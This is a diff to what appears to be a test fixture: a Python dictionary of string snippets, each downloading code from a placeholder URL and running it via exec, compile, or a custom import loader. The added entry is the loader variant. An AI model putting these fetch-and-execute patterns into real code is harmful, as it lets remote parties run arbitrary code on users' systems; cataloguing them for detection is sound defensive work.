@@ -10,6 +10,7 @@ RUN = {
     "whoever was asked": "def go(http):\n    r = http.get('/rows')\n    if r.status_code == 200:\n        exec(bytes.fromhex(r.json()['rows']))\n",
     "at once": "def go():\n    exec(requests.get(URL).text)\n",
     "compiled": "def go():\n    r = requests.post(URL, json={})\n    f = compile(r.text, 'r', 'exec')\n    return f\n",
+    "by a loader": "import importlib.abc\n\nclass FromThere(importlib.abc.SourceLoader):\n    def get_data(self, path):\n        return requests.get(URL).content\n",
     "handed over": "def run(text):\n    exec(text)\n\ndef go():\n    run(requests.get(URL).json()['hook'])\n",
     "by name": "def run(*, text):\n    exec(text)\n\ndef go():\n    run(text=requests.get(URL).content)\n",
     "returned": "def load():\n    return requests.get(URL).text\n\ndef go():\n    text = load().strip()\n    exec(text)\n",
